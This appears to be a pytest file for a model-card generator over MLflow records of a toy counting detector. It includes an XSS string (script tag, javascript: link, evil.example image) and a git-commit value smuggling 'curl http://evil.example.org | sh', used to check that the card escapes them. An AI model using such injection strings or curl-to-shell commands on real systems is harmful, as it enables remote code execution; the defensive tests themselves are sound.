"""The model card: what is recorded stands on it, what is not is said, and nothing on it can run or be made up."""

from __future__ import annotations

import doctest
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import mlflow
import pytest
import yaml
from mlflow import MlflowClient
from mlflow.store.tracking.sqlalchemy_store import SqlAlchemyStore
from rectangles import write_rectangles
from toy_detector import build

import camera_counting
from model_governance import Policy, evaluation_of, promote, register
from model_governance.change_log import change_log
from pipelines import model_card
from pipelines.card import figures
from pipelines.card.texts import card_schema, load_texts
from pipelines.datasets.manifest import load_dataset
from pipelines.datasets.mlflow_dataset import CameraDataset, StoredSource
from pipelines.datasets.store import ContentStore
from tests.empty_store import empty_store

Make = Callable[..., str]

NASTY = "<script>alert(1)</script> | ![x](http://evil.example/x.png)\n# Heading [link](javascript:1)"
METRICS = {
    "count/mae": 0.5,
    "ci95/count/mae/low": 0.25,
    "ci95/count/mae/high": 0.75,
    "detection/map50": 0.8,
    "detection/ap50/person": 0.9,
    "detection/ap50/car": 0.7,
    "slice/light/night/n": 12,
    "slice/light/night/count/mae": 1.5,
    "slice/light/day/n": 40,
    "slice/light/day/count/mae": 0.25,
    "robustness/clear/count/mae": 0.5,
    "robustness/fog/count/mae": 1.25,
    "robustness/fog/count/mae_ratio": 2.5,
    "robustness/pictures": 20,
    "behaviour/empty_scene": 0,
    "behaviour/empty_scene/n": 7,
    "against/baseline/count/mae/difference": -0.4,
    "against/baseline/count/mae/low": -0.6,
    "against/baseline/count/mae/high": -0.2,
    "against/baseline/count/mae/p": 0.01,
}
TEXTS = {
    "format_version": 1,
    "purpose": "Counts people at a gate.",
    "intended_use": ["Totals per hour."],
    "excluded_use": ["Recognising anybody."],
    "limits": ["Crowds are undercounted."],
    "privacy": {"statement": "Counts alone are kept.", "controller": "The city", "legal_basis": "Art. 6 (1) e"},
    "data_sources": [{"origin": "rect*", "licence": "CC0-1.0", "description": "Coloured rectangles."}],
    "cameras": [
        {"camera": "cam-*", "origin": "rectangles", "statement": "Shows rectangles alone.", "legal_basis": "none"},
        {"camera": "cam-2", "statement": "Looks at the second gate."},
    ],
}


@pytest.fixture
def policy() -> Policy:
    threshold = {"metric": "count/mae", "max": 1.0, "reason": "more is of no use"}
    return Policy.model_validate({"format_version": 1, "quality": [threshold]})


def _maker(folder: Path) -> Make:
    """Logs a trained, measured model of coloured rectangles to the store that is set; gives its URI."""
    data = write_rectangles(folder / "data")
    store = ContentStore(folder / "store")
    store.put_dataset(data)
    dataset = load_dataset(data)
    source = StoredSource(store.uri, dataset.digest, "rectangles")
    detector = build(folder / "toy.onnx", size=(96, 96))

    def log(
        confidence: float = 0.5, metrics: dict[str, float] | None = None, learnt_in: str | None = None, **tags: str
    ) -> str:
        with mlflow.start_run():
            mlflow.log_params({"trainer": "none", "epochs": 3, "seed": 7, "classes": "person,car", "model": NASTY})
            mlflow.set_tags({"lineage.git_commit": "c" * 40, "lineage.git_dirty": "false", **tags})
            for split, context in (("train", "training"), ("test", "test")):
                known = {"inherited_from": learnt_in} if learnt_in else None
                mlflow.log_input(CameraDataset(dataset, source, split), context=context, tags=known)
            info = camera_counting.log_model(detector, name="model", confidence=confidence)
            if metrics is not None:
                with evaluation_of(info.model_uri):
                    mlflow.log_metrics(metrics, model_id=info.model_id)
        return str(info.model_uri)

    return log


@pytest.fixture
def make(tracking: str, tmp_path: Path) -> Make:
    """Logs models to a store of this test alone."""
    return _maker(tmp_path)


@pytest.fixture(scope="module")
def logged(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, str]:
    """A store with one measured model, for tests that only read: its URI, and the model's."""
    folder = tmp_path_factory.mktemp("recorded")
    uri, before = empty_store(folder), mlflow.get_tracking_uri()
    mlflow.set_tracking_uri(uri)
    mlflow.set_registry_uri(uri)
    SqlAlchemyStore(uri, (folder / "artifacts").as_uri())  # where its files go, whatever the working directory
    try:
        return uri, _maker(folder)(metrics=METRICS)
    finally:
        mlflow.set_tracking_uri(before)
        mlflow.set_registry_uri(before)


@pytest.fixture
def recorded(logged: tuple[str, str], tracking: str) -> str:
    """URI of a measured model that several tests read."""
    mlflow.set_tracking_uri(logged[0])
    mlflow.set_registry_uri(logged[0])
    return logged[1]


def texts_file(folder: Path, **changes: Any) -> Path:
    path = folder / "texts.yaml"
    path.write_text(yaml.safe_dump({k: v for k, v in {**TEXTS, **changes}.items() if v is not None}))
    return path


def card_of(uri: str, folder: Path, **changes: Any) -> tuple[dict[str, Any], str, str]:
    """The card's JSON, Markdown and HTML, written and not logged."""
    model_card.run(
        model_card.ModelCardSettings(
            model_uri=uri, texts=texts_file(folder, **changes), out=folder / "card", log=False
        )
    )
    names = ("model_card.json", "model_card.md", "model_card.html")
    content, markdown, html = ((folder / "card" / name).read_text() for name in names)
    return json.loads(content), markdown, html


def test_everything_that_is_recorded_stands_on_the_card(recorded: str, tmp_path: Path) -> None:
    card, markdown, html = card_of(recorded, tmp_path)
    assert (card["complete"], card["missing"]) == (True, [])
    assert card["identity"]["model_uri"] == recorded
    assert card["purpose"] == "Counts people at a gate."
    for line in (
        "| count/mae | 0.5 | 0.25 to 0.75 |",
        "| detection/ap50 | 0.9 | 0.7 |",
        "| night | 12 | 1.5 |",
        "| clear | 0.5 | – |",
        "| fog | 1.25 | 2.5 |",
        "| empty scene | 0 | 7 |",
        "| count/mae | -0.4 | -0.6 to -0.2 | 0.01 |",
        "- Only 12 test pictures with light night: figures of so few are luck.",
        "- Under fog the count error is 2.5 times that on clear pictures.",
        "- Every camera of the test pictures was also learnt from: nothing is known of cameras elsewhere.",
        "| rectangles | CC0-1.0. Coloured rectangles. |",
        f"mlflow run . -e reproduce -P run_id={card['identity']['run_id']}",
        f"git checkout {'c' * 40}",
        "- seed: 7",
    ):
        assert line in markdown, line
    # 12, 4 and 4 pictures by turns from two cameras; an exact name goes before a pattern
    assert card["cameras"] == {
        "cam-1": {
            "pictures": {"train": 6, "val": 2, "test": 2},
            "statement": "Shows rectangles alone.",
            "legal_basis": "none",
        },
        "cam-2": {
            "pictures": {"train": 6, "val": 2, "test": 2},
            "statement": "Looks at the second gate.",
            "legal_basis": "Art. 6 (1) e",  # what holds for all
        },
    }
    for text in ("Counts people at a gate.", "0.25 to 0.75", "Looks at the second gate.", "Model card complete"):
        assert text in html


def test_the_same_record_makes_the_same_card(recorded: str, tmp_path: Path) -> None:
    assert card_of(recorded, tmp_path) == card_of(recorded, tmp_path)


@pytest.mark.parametrize(
    ("changes", "missing"),
    [
        ({"privacy": {"statement": "Counts alone are kept."}}, ["privacy.cam-2.legal_basis"]),
        ({"purpose": None}, ["purpose"]),
        ({"limits": None}, ["limits.known"]),
        ({"privacy": None}, ["privacy", "privacy.cam-2.legal_basis"]),
        ({"excluded_use": []}, ["excluded_use"]),
        ({"data_sources": [{"origin": "coco:*", "licence": "CC-BY-4.0"}]}, ["data.licence.rectangles"]),
        ({"cameras": [{"camera": "cam-1", "statement": "A gate."}]}, ["privacy.cam-2"]),
        # said of drawn cameras of the same name, which these are not
        ({"cameras": [{"camera": "cam-*", "origin": "generated:*", "statement": "Drawn."}]},
         ["privacy.cam-1", "privacy.cam-2"]),
    ],
)  # fmt: skip
def test_what_nobody_wrote_down_is_missing(
    recorded: str, tmp_path: Path, changes: dict[str, Any], missing: list[str]
) -> None:
    card, markdown, html = card_of(recorded, tmp_path, **changes)
    assert (card["complete"], card["missing"]) == (False, missing)
    assert missing[0] in markdown.replace("\\", "")
    assert "Model card incomplete" in html


def test_what_nobody_measured_is_missing(make: Make, tmp_path: Path) -> None:
    card, markdown, _ = card_of(make(), tmp_path)
    assert card["missing"] == ["metrics", "slices", "robustness", "behaviour"]
    assert [card[key] for key in card["missing"]] == [None] * 4
    assert "## Robustness\n\nNot recorded.\n" in markdown


def test_data_that_cannot_be_found_are_told(make: Make, tmp_path: Path) -> None:
    uri = make(metrics=METRICS)
    (tmp_path / "store").rename(tmp_path / "elsewhere")
    card, markdown, _ = card_of(uri, tmp_path)
    assert card["missing"] == ["privacy.cameras"]
    assert "Cameras: not recorded (the manifest of data set" in markdown


def test_a_version_has_its_changes_its_approval_and_a_link(make: Make, policy: Policy, tmp_path: Path) -> None:
    texts = texts_file(tmp_path)
    client = MlflowClient()
    first = make(0.5, {**METRICS, "count/mae": 0.75})
    register(first, "gate", policy)
    promote("gate", "1", "Ann", "looked at the clips")
    second = make(0.6, METRICS)
    logged = model_card.run(model_card.ModelCardSettings(model_uri=second, texts=texts))
    assert logged.place == "model_card"
    assert client.get_logged_model(second.removeprefix("models:/")).tags["model_card.complete"] == "true"
    judged = Path(client.download_artifacts(logged.run_id, "model_card/model_card.json")).read_bytes()

    register(second, "gate", policy)
    for _ in range(2):  # once more changes nothing
        done = model_card.run(model_card.ModelCardSettings(model_uri="models:/gate/2", texts=texts))
    assert done.place == "model_card/gate-1.1.0"
    content = json.loads(Path(client.download_artifacts(done.run_id, f"{done.place}/model_card.json")).read_text())
    told, table = content["changes"][:2]
    assert told.startswith("1.1.0, after 1.0.0, registered ")
    assert table == {"Figures": [{"metric": "count/mae", "before": "0.75", "now": "0.5", "so it is": "better"}]}
    version = client.get_model_version("gate", "2")
    assert version.description.count("Model card: artifacts of run") == 1
    assert f"under `{done.place}`" in version.description
    assert version.tags["model_card.missing"] == "nothing"
    log = Path(client.download_artifacts(done.run_id, f"{done.place}/CHANGELOG.md")).read_text()
    assert log == change_log("gate")
    again = Path(client.download_artifacts(logged.run_id, "model_card/model_card.json")).read_bytes()
    assert again == judged, "the card that the gates read is not written over"

    promote("gate", "2", "Bob", "better at the gate")
    model_card.run(model_card.ModelCardSettings(model_uri="models:/gate@champion", texts=texts))
    content = json.loads(Path(client.download_artifacts(done.run_id, f"{done.place}/model_card.json")).read_text())
    facts = content["approvals"][0]
    assert (facts["approved by"], facts["approval comment"]) == ("Bob", "better at the gate")
    assert facts["champion today"] == "yes"


def test_a_patch_tells_where_its_weights_were_learnt(make: Make, policy: Policy, tmp_path: Path) -> None:
    first = make(0.5, METRICS)
    register(first, "gate", policy)
    parent = str(MlflowClient().get_model_version("gate", "1").run_id)
    claim = {"change": "re-thresholded", "optimised_from": first.removeprefix("models:/")}
    patch = make(0.6, METRICS, learnt_in=parent, **claim)
    assert register(patch, "gate", policy).semantic_version == "1.0.1"
    card, markdown, _ = card_of("models:/gate/2", tmp_path)
    assert card["identity"]["training_run_id"] == parent != card["identity"]["run_id"]
    assert "- confidence" not in markdown  # this one's was not logged, and the parent's is another


def test_what_stands_in_the_record_can_neither_run_nor_break_the_card(recorded: str, tmp_path: Path) -> None:
    card, markdown, html = card_of(recorded, tmp_path, purpose=NASTY)
    assert "<script" not in html.lower()
    assert "&lt;script&gt;" in html
    for line in markdown.splitlines():
        assert "<script" not in line.replace("\\<", "")
        assert "](" not in line.replace("\\]", "")
    assert "\n# Heading" not in markdown
    assert card["purpose"] == " ".join(NASTY.split())


def test_only_a_commit_is_told_to_be_checked_out(make: Make, tmp_path: Path) -> None:
    uri = make(metrics=METRICS, **{"lineage.git_commit": "main; curl http://evil.example.org | sh"})
    _, markdown, html = card_of(uri, tmp_path)
    for text in (markdown, html):
        assert "git checkout" not in text
        assert "mlflow run . -e reproduce -P run_id=" in text
    assert "- commit: main; curl http\\://evil.example.org \\| sh" in markdown


@pytest.mark.parametrize("width", [1280, 390])
def test_the_page_stands_on_its_own(recorded: str, tmp_path: Path, chromium: str, width: int) -> None:
    from playwright.sync_api import sync_playwright

    card_of(recorded, tmp_path)
    asked: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": width, "height": 900})
        page.on("request", lambda request: asked.append(request.url))
        page.on("console", lambda message: asked.append(message.text))
        page.goto((tmp_path / "card" / "model_card.html").as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= width, "no sideways scrolling"
        assert page.locator("nav a").count() == page.locator("section h2").count() == 15
        page.click("nav a[href='#privacy']")
        assert page.locator("#privacy h2").is_visible()
        browser.close()
    assert [url.partition("#")[0] for url in asked] == [(tmp_path / "card" / "model_card.html").as_uri()]


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ("format_version: 2", "format_version: Input should be 1"),
        ("format_version: 1\npurpos: x", "purpos: Extra inputs are not permitted"),
        (
            "format_version: 1\ncameras: [{camera: '*', statement: all is well}]",
            "whatever camera there may ever be",
        ),
        ("format_version: 1\ncameras: [{camera: gate}]", "cameras.0.statement: Field required"),
        ("a: [", "texts.yaml: no valid YAML: line 1"),
        ("format_version: 1\npurpose: to count\nlimits: [fog]\npurpose: ''", "line 4.*'purpose' stands twice"),
        ("format_version: 1\nprivacy: {statement: none, statement: all of it}", "'statement' stands twice"),
        ("", "Input should be a valid dictionary"),
    ],
)
def test_texts_that_no_card_shows_are_refused(tmp_path: Path, content: str, said: str) -> None:
    (tmp_path / "texts.yaml").write_text(content)
    with pytest.raises(ValueError, match=said):
        load_texts(tmp_path / "texts.yaml")


def test_the_texts_that_come_with_the_project_fit_their_schema(root: Path) -> None:
    import jsonschema

    content = yaml.safe_load((root / "pipelines" / "model_card.yaml").read_text())
    shipped = json.loads((root / "pipelines" / "card" / "model_card.schema.json").read_text())
    assert shipped == card_schema(), "write it anew: python -m pipelines.card.texts"
    jsonschema.validate(content, card_schema())
    for name, definition in {"": card_schema(), **card_schema()["$defs"]}.items():
        for key, described in definition["properties"].items():
            assert described.get("description"), f"{name}.{key} is not explained"


def test_a_card_that_would_go_nowhere_is_refused() -> None:
    with pytest.raises(ValueError, match="the card would go nowhere"):
        model_card.run(model_card.ModelCardSettings(model_uri="models:/m-1", log=False))


def test_examples() -> None:
    assert doctest.testmod(figures).failed == 0
